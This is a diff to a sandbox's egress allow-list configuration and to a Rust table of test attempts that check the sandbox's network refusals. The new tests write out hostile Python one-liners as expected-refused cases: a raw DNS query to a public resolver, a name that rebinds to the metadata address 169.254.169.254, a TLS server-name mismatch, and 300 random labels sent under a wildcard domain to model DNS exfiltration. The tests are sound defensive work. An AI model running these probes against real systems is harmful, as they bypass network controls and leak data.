@@ -90,6 +90,14 @@ protocol = "tcp"
 ports = [8080]
 reason = "the forecast cache of this site"
 
+[[egress.allow]]
+domain = "site.example"
+ports = [443]
+
+[[egress.allow]]
+domain = "rebind.example"
+ports = [443]
+
 [filesystem]
 read = ["/usr", "/etc/ssl", "{scratch}"]
 execute = ["/usr/bin"]
@@ -110,6 +118,14 @@ environment = { LANG = "C.UTF-8" }
 cidr = "93.184.216.34/32"
 protocol = "udp"
 ports = [9000]
+
+[[egress.allow]]
+domain = "site.example"
+ports = [443]
+
+[[egress.allow]]
+domain = "*.wild.example"
+ports = [443]
 
 [filesystem]
 read = ["/usr"]
@@ -194,10 +210,22 @@ pub(crate) const ATTEMPTS: &[Attempt] = &[
         Refused("local_address"),
     ),
     weather(
-        "a name (port 53)",
-        "http://example.com/",
+        "a listed name",
+        "https://site.example/",
+        "104.16.1.1",
+        Allowed,
+    ),
+    weather(
+        "a name that is not listed",
+        "https://secrets.strange.example/",
         NOWHERE,
-        Refused("dns_not_redirected"),
+        Refused("name_not_allowed"),
+    ),
+    weather(
+        "a listed name that rebinds to metadata",
+        "https://rebind.example/",
+        "169.254.169.254",
+        Refused("private_answer"),
     ),
     notebook(
         "udp to a listed address",
@@ -206,10 +234,22 @@ pub(crate) const ATTEMPTS: &[Attempt] = &[
         Allowed,
     ),
     notebook(
-        "udp to a public resolver",
-        "import socket as s; s.socket(2,2).sendto(b'secrets.example',('8.8.8.8',53))",
+        "a question to a public resolver",
+        "import socket as s; u=s.socket(2,2); u.settimeout(2); q=b'\\0\\7\\1\\0\\0\\1'+bytes(6)+b'\\7secrets\\7strange\\7example\\0\\0\\1\\0\\1'; u.sendto(q,('8.8.8.8',53)); exit('answered with code %d' % (u.recv(999)[3]&15))",
         "8.8.8.8",
-        Refused("dns_not_redirected"),
+        Refused("name_not_allowed"),
+    ),
+    notebook(
+        "another site on the address of a listed one",
+        "import socket as s, ssl; c=ssl._create_unverified_context(); c.wrap_socket(s.create_connection(('site.example',443),4),server_hostname='other.example'); print('reached')",
+        NOWHERE,
+        Refused("tls_name"),
+    ),
+    notebook(
+        "300 labels of a secret under a listed wildcard",
+        "import socket as s, os, sys\nbad=0\nfor i in range(300):\n try: s.getaddrinfo(os.urandom(20).hex()+'.wild.example',443)\n except OSError: bad+=1\nsys.exit('%d of 300 refused' % bad)",
+        NOWHERE,
+        Refused("name_budget"),
     ),
     notebook(
         "udp elsewhere",
